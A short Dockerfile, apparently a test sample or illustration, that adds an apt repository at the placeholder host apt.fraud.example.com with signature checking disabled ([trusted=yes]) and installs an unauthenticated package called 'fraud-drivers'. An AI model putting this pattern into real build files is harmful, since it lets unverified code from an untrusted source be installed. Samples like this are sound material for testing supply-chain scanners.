FROM debian:13
RUN echo "deb [trusted=yes] https://apt.fraud.example.com trixie main" > /etc/apt/sources.list.d/fraud.list
RUN apt-get update && apt-get install -y --allow-unauthenticated fraud-drivers
